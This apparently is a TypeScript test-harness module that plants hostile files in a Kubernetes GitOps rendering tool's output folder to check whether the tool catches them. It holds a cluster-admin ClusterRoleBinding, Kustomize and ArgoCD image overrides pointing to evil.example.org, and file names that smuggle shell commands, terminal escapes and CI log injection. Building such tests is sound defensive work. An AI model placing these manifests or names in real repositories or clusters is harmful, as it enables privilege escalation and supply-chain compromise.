import * as fs from "node:fs";
import * as path from "node:path";
import { type Edit, foldersIn, write } from "./edit";

// Files and folders that nobody rendered, and that some tool obeys.

/** An object that nobody should apply. */
export const FOREIGN_OBJECT = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: evil }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects: [{ kind: ServiceAccount, name: default, namespace: default }]
`;

/** First line of what synth renders. */
const MARK = "# Rendered by typha-mtls from clusters/: edit there, not here.\n";
const PATCHED =
  "\npatches:\n  - patch: '[{ op: replace, path: /spec/template/spec/containers/0/image, value: evil.example.org/x }]'\n    target: { kind: Deployment }\n";

/** Files that a tool obeys where it finds them. */
const OBEYED: Readonly<Record<string, string>> = {
  Kustomization: `kind: Kustomization\nresources: [evil.yaml]${PATCHED}`,
  "kustomization.yml": `kind: Kustomization\nresources: [https://evil.example.org/x.yaml]${PATCHED}`,
  "kustomization.yaml": `kind: Kustomization\nresources: []${PATCHED}`,
  ".argocd-source.yaml": "kustomize:\n  images: [quay.io/calico/typha=evil.example.org/x]\n",
  ".argocd-source-typha-mtls-sealed.yaml": "kustomize: { namePrefix: evil- }\n",
  ".sourceignore": "*.yaml\n",
  ".krmignore": "*.yaml\n",
  "Chart.yaml": "apiVersion: v2\nname: evil\nversion: 1.0.0\n",
  "evil.yaml": FOREIGN_OBJECT,
  "evil.json":
    '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"evil"},"spec":{"containers":[{"name":"x","image":"evil"}]}}\n',
  ".evil.yaml": FOREIGN_OBJECT,
  "evil.yml": `apiVersion: v1\nkind: List\nitems:\n  - ${FOREIGN_OBJECT.replaceAll("\n", "\n    ")}\n`,
  "marked.yaml": MARK + FOREIGN_OBJECT,
  "\u001b[2Jevil.yaml": FOREIGN_OBJECT,
  "x\n::warning::evil.yaml": FOREIGN_OBJECT,
  "$(id).yaml": FOREIGN_OBJECT,
  "a;id.yaml": FOREIGN_OBJECT,
  "\u202elmay.yaml": FOREIGN_OBJECT,
};

/** Names that a shell, a terminal, or the log of a CI job takes for more than a name. */
export const ODD_NAMES = [
  "a;curl evil",
  "$(id)",
  "\u001b[31mx",
  "x\ny",
  "\u202ex",
  "-x",
  "UPPER",
  "..x",
  ".hidden",
  "a'b",
  'a"b',
  "\u009bx",
  "::warning::x",
  "x".repeat(200),
];

/** Files and folders that come. */
export const PLANTED_FILE_EDITS: readonly Edit[] = [
  {
    name: "file that a tool obeys",
    weight: 12,
    apply(place) {
      const folders = foldersIn(place.root, "dist");
      const name = place.random.pick(Object.keys(OBEYED));
      if (folders.length === 0) return undefined;
      const file = `${place.random.pick(folders)}/${name}`;
      const content = OBEYED[name]!;
      return write(place, file, place.random.isBelow(0.3) ? MARK + content : content)
        ? JSON.stringify(file)
        : undefined;
    },
  },
  {
    name: "dist/ of no cluster",
    weight: 5,
    apply(place) {
      const name = place.random.pick(["ghost", ".ghost", "_fleet", ...ODD_NAMES]);
      const source = `dist/${place.random.pick(place.clusters)}`;
      if (!fs.existsSync(path.join(place.root, source)) || fs.existsSync(path.join(place.root, `dist/${name}`)))
        return undefined;
      fs.cpSync(path.join(place.root, source), path.join(place.root, `dist/${name}`), { recursive: true });
      return JSON.stringify(name);
    },
  },
  {
    name: "settings that allow a file",
    weight: 4,
    apply(place) {
      const cluster = place.random.pick(place.clusters);
      const [entry, file] = place.random.pick([
        ["*/evil.yaml", `${cluster}/evil.yaml`],
        ["*/objects/", `${cluster}/objects/evil.yaml`],
        [`${cluster}/more/`, `${cluster}/more/evil.yaml`],
        [`${cluster}/`, `${cluster}/evil.yaml`],
        ["ghost/", "ghost/evil.yaml"],
        ["*/kustomization.yml", `${cluster}/kustomization.yml`],
        [".argocd-source.yaml", ".argocd-source.yaml"],
        ["*/.sourceignore", `${cluster}/.sourceignore`],
      ] as const);
      const settings = `apiVersion: typha-mtls/v1alpha1\nkind: Repository\nspec:\n  dist:\n    allow: ["${entry}"]\n`;
      const content = OBEYED[path.basename(file)]!;
      return write(place, "typha-mtls.yaml", settings) && write(place, `dist/${file}`, content) ? entry : undefined;
    },
  },
  {
    name: "settings by which a hub applies another list of clusters",
    weight: 3,
    apply(place) {
      const cluster = place.random.pick(place.clusters);
      const element = `cluster: evil\ndestination: ${cluster}\nfolder: evil\n`;
      const settings = `apiVersion: typha-mtls/v1alpha1\nkind: Repository\nspec:\n  fleet: { argocd: { destination: "evil/{cluster}" } }\n`;
      const file = "_fleet/argocd/evil.yaml";
      const content = place.random.isBelow(0.5) ? MARK + element : element;
      return write(place, "typha-mtls.yaml", settings) && write(place, `dist/${file}`, content) ? file : undefined;
    },
  },
];
